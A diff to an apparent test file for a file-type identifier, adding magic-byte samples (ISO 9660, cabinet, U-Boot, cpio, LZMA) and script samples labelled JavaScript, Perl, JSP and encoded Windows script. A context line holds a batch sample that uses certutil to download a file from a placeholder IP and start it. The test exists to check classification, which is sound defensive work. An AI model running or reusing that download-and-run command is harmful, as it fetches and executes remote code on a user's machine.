@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import gzip
 import io
+import lzma
 import struct
 import subprocess
 import sys
@@ -79,6 +80,11 @@ def tarred() -> bytes:
         (elf(32, "<", 999, kind=77), "ELF 32-bit little-endian, type 77, machine 999"),
         (elf(32, "<", 40)[:30], "ELF 32-bit little-endian, cut off in the header"),
         (b"\x7fELF\x09\x09", "ELF, damaged header"),
+        (bytes(0x8001) + b"CD001", "ISO 9660 image"),
+        (b"MSCF\0\0\0\0" + bytes(30), "Windows cabinet"),
+        (b"\x27\x05\x19\x56" + bytes(60), "U-Boot image"),
+        (b"070701" + b"0" * 104, "cpio archive"),
+        (lzma.compress(b"x" * 99, format=lzma.FORMAT_ALONE), "LZMA compressed data"),
         (pe(), "PE 32-bit, executable (GUI), Intel 80386"),
         (pe(bits=64, machine=0x8664, dll=True, subsystem=3), "PE 64-bit, DLL (console), x86-64"),
         (pe(subsystem=1), "PE 32-bit, driver (native), Intel 80386"),
@@ -191,6 +197,11 @@ SCRIPTS_AND_NEAR_MISSES = [
     (b"import java.util.List;\n", "ASCII text"),
     (b"@echo off\ncertutil -urlcache -f http://192.0.2.1/a a\nstart a\n", "Windows batch script"),
     (b"rem sleep is deep\n@echoes of it\n", "ASCII text"),
+    (b"var s = new ActiveXObject('WScript.Shell');\ns.Run('x');\n", "JavaScript script"),
+    (b"use strict;\nuse IO::Socket;\nmy $x = 1;\n", "Perl script"),
+    (b"use LWP well, my $5 are gone\nwe use strict rules\nmy @home\nat last\nthe end\n", "ASCII text"),
+    (b"<%@page import=\"java.io.*\"%><%= 1 %>", "server page (JSP or ASP.NET)"),
+    (b"#@~^ogAAAA==", "Windows script, encoded"),
     (b'Set s = CreateObject("WScript.Shell")\ns.Run "x"\n', "VBScript script"),
     (b"set menu\ndim lights\n", "ASCII text"),
     (b"<?php echo 1;", "PHP script"),
